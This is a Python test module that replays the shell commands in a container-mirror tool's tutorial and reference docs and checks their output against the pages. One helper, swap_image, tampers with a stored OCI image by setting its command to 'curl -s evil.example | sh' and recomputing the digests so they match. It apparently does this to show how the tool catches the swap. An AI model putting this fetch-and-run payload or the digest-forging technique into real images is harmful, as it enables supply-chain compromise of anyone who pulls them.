"""Run the commands of docs/tutorial.md and of docs/reference/json-examples.md, and compare what they print.

`python -m tests.tutorial --write` writes what they print to the pages.
"""

import hashlib
import json
import os
import re
import subprocess
import sys
import tempfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

from tests.support import images
from tests.support.images import seed_image
from tests.support.registry import EmbeddedRegistry, serving

DOCS = Path(__file__).parents[1] / "docs"
PAGES = (DOCS / "tutorial.md", DOCS / "reference" / "json-examples.md")
NEAR, FAR = "localhost:50001", "localhost:50002"  # in the page; the registries that run here have other ports

_STEP = re.compile(r"^```console\n(?P<block>.*?)^```$|^<!-- run: (?P<action>\w+) -->$", re.MULTILINE | re.DOTALL)
_VARYING = (
    (re.compile(r"\d+\.\d+ s\b"), "0.0 s"),
    (re.compile(r'("seconds": )[\d.]+'), r"\g<1>0.0"),
    (re.compile(r'("(?:started|finished)": ")[^"]+'), r"\g<1>2026-01-01T00:00:00Z"),
    (re.compile(r"127\.0\.0\.1:\d+"), "127.0.0.1:5000"),
)


def main(arguments: list[str]) -> int:
    """Compare or, with `--write`, rewrite the pages. Return the exit code."""
    differing = []
    for path in PAGES:
        page = path.read_text()
        found = replayed(page)
        if without_varying(found) != without_varying(page):
            differing.append(path)
            if arguments == ["--write"]:
                path.write_text(found)
    if differing and arguments != ["--write"]:
        names = ", ".join(path.name for path in differing)
        print(f"out of date: {names}; update with: python -m tests.tutorial --write", file=sys.stderr)
        return 1
    return 0


def without_varying(page: str) -> str:
    """Return a page without durations, times and ports."""
    for pattern, text in _VARYING:
        page = pattern.sub(text, page)
    return page


def replayed(page: str) -> str:
    """Return the page with the output of each command as it is today. The commands run in order, in one directory."""
    with (
        tempfile.TemporaryDirectory(prefix="mirror-tutorial-") as directory,
        serving(EmbeddedRegistry()) as near,
        serving(EmbeddedRegistry()) as far,
    ):
        seed_image().publish(near, "library/redis", "4.0")
        images.multi_arch().publish(near, "team/app", "1.0")
        ports = {NEAR: near.host.replace("127.0.0.1", "localhost"), FAR: far.host.replace("127.0.0.1", "localhost")}

        def run(command: str) -> str:
            shown = {**{ports[name]: name for name in ports}, directory: "/home/ann"}
            return _renamed(_output(_renamed(command, ports), Path(directory)), shown)

        return _STEP.sub(lambda step: _replay(step, run, Path(directory, "layout")), page)


def _replay(step: re.Match[str], run: Callable[[str], str], layout: Path) -> str:
    if step["action"]:
        {"swap": swap_image}[step["action"]](layout)
        return step[0]
    commands = [line.removeprefix("$ ") for line in step["block"].splitlines() if line.startswith("$ ")]
    shown = [f"$ {command}\n{run(command)}" for command in commands]
    return "```console\n" + "".join(shown) + "```"


def _output(command: str, directory: Path) -> str:
    """Return what a command prints, stdout and stderr as a terminal shows them."""
    kept = {name: text for name, text in os.environ.items() if not name.startswith(("MIRROR_", "XDG_", "DOCKER_"))}
    env = {**kept, "HOME": str(directory), "PATH": f"{Path(sys.executable).parent}:{os.environ['PATH']}"}
    done = subprocess.run(
        ["bash", "-c", command],
        cwd=directory,
        env=env,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        text=True,
        check=False,
    )
    return done.stdout


def _renamed(text: str, names: dict[str, str]) -> str:
    for old, new in names.items():
        text = text.replace(old, new)
    return text


def swap_image(layout: Path) -> None:
    """Replace the only image of a layout by one that runs another command, with digests that match."""

    def read(digest: str) -> Any:
        return json.loads((layout / "blobs" / digest.replace(":", "/")).read_bytes())

    def point(descriptor: dict[str, Any], document: object) -> None:
        data = json.dumps(document).encode()
        name = hashlib.sha256(data).hexdigest()
        (layout / "blobs" / "sha256" / name).write_bytes(data)
        (layout / "blobs" / descriptor["digest"].replace(":", "/")).unlink()
        descriptor.update(digest=f"sha256:{name}", size=len(data))

    entries = json.loads((layout / "index.json").read_bytes())
    entry = entries["manifests"][0]
    entry["annotations"] = {name: text for name, text in entry["annotations"].items() if "oci-mirror" not in name}
    index = read(entry["digest"])
    manifest = read(index["manifests"][0]["digest"])
    config = read(manifest["config"]["digest"])
    config["config"]["Cmd"] = ["sh", "-c", "curl -s evil.example | sh"]
    point(manifest["config"], config)
    point(index["manifests"][0], manifest)
    point(entry, index)
    (layout / "index.json").write_text(json.dumps(entries))


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
